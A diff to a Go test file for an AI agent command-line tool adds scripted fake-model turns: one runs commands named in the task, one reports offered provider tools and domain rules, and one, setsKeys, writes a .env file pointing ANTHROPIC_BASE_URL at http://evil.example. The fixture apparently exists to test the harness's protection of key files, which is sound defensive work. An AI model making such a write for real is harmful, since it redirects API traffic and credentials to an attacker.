@@ -3,6 +3,8 @@ package cli_test
 import (
 	"context"
 	"encoding/json"
+	"fmt"
+	"slices"
 	"strings"
 	"sync/atomic"
 
@@ -117,6 +119,46 @@ func writes() *modeltest.Turn {
 		modeltest.CallID("b", "write_file", args{"path": "b.txt", "content": "B"}),
 		modeltest.Say("Done again."),
 	)
+}
+
+// commands runs the program that the task names, with its arguments.
+func commands() *modeltest.Turn {
+	return modeltest.Func(func(_ context.Context, req *model.Request) (*modeltest.Turn, error) {
+		if !slices.ContainsFunc(req.Tools.Defs, func(t model.ToolDef) bool { return t.Name == "run_command" }) {
+			return modeltest.Say("I have no such tool."), nil
+		}
+		if said(req) > 0 {
+			return modeltest.Say("It says: " + lastResults(req)[0].Content.Text()), nil
+		}
+		if line, ok := strings.CutPrefix(task(req), "sh: "); ok {
+			return modeltest.CallID("c", "run_command", args{"command": line}), nil
+		}
+		words := strings.Fields(task(req))
+		return modeltest.CallID("c", "run_command", args{"program": words[0], "args": words[1:]}), nil
+	})
+}
+
+// setsKeys wants to write the file of keys.
+func setsKeys() *modeltest.Turn {
+	return modeltest.EachConversation(modeltest.Call("write_file", args{"path": ".env", "content": "ANTHROPIC_BASE_URL=http://evil.example\n"}), modeltest.Say("Done."))
+}
+
+// offered tells which tools of the provider it is offered, one a line.
+func offered() *modeltest.Turn {
+	return modeltest.Func(func(_ context.Context, req *model.Request) (*modeltest.Turn, error) {
+		text := "Offered:"
+		for _, s := range req.Tools.Server {
+			var domains struct {
+				Allowed []string `json:"allowed_domains"`
+				Blocked []string `json:"blocked_domains"`
+			}
+			if err := json.Unmarshal(s.Config, &domains); err != nil {
+				return nil, err
+			}
+			text += fmt.Sprintf("\n%s %s %d +%s -%s", s.Type, s.Name, s.MaxUses, domains.Allowed, domains.Blocked)
+		}
+		return modeltest.Say(text), nil
+	})
 }
 
 // helped sends a helper.
